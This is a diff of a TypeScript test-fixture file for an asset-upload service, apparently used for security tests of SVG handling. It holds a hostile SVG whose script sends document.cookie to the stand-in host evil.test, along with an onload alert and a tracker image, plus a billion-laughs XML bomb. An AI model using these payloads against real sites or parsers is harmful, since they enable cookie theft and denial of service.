@@ -12,13 +12,13 @@ export const LOGO_SVG = `<?xml version="1.0" encoding="UTF-8"?>
   <rect x="40" y="8" width="72" height="24" rx="4" fill="#29335c"/>
 </svg>`;
 
-export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
+const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
   <script>fetch('https://evil.test/steal?c=' + document.cookie)</script>
   <rect width="10" height="10" fill="#0a0" onload="alert(1)"/>
   <image xlink:href="https://tracker.evil.test/pixel.png" width="10" height="10"/>
 </svg>`;
 
-export const XML_BOMB_SVG = `<?xml version="1.0"?>
+const XML_BOMB_SVG = `<?xml version="1.0"?>
 <!DOCTYPE svg [
   <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
   <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
@@ -29,7 +29,7 @@ export const XML_BOMB_SVG = `<?xml version="1.0"?>
 <svg xmlns="http://www.w3.org/2000/svg"><text>&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;</text></svg>`;
 
 /** A photo larger than Figma accepts (5000 × 3000), as JPEG. */
-export async function bigPhoto(color = { r: 30, g: 120, b: 200 }): Promise<Buffer> {
+async function bigPhoto(color = { r: 30, g: 120, b: 200 }): Promise<Buffer> {
   return sharp({ create: { width: 5000, height: 3000, channels: 3, background: color } }).jpeg({ quality: 70 }).toBuffer();
 }
 
@@ -44,7 +44,7 @@ export async function api<T>(server: TestServer, method: string, path: string, b
   return json;
 }
 
-export async function createAsset(server: TestServer, collectionId: string, file: { bytes: Buffer; fileName: string; mimeType: string; name: string; tags?: string[]; kind?: Asset['kind'] }): Promise<Asset> {
+async function createAsset(server: TestServer, collectionId: string, file: { bytes: Buffer; fileName: string; mimeType: string; name: string; tags?: string[]; kind?: Asset['kind'] }): Promise<Asset> {
   const adminId = (await server.stockroom.database.prisma.user.findFirstOrThrow({ where: { role: 'admin' } })).id;
   const upload = await seedUpload(server.stockroom, adminId, { bytes: file.bytes, fileName: file.fileName, mimeType: file.mimeType });
   return api<Asset>(server, 'POST', '/api/assets', { uploadId: upload.uploadId, name: file.name, collectionId, tags: file.tags ?? [], ...(file.kind ? { kind: file.kind } : {}) });
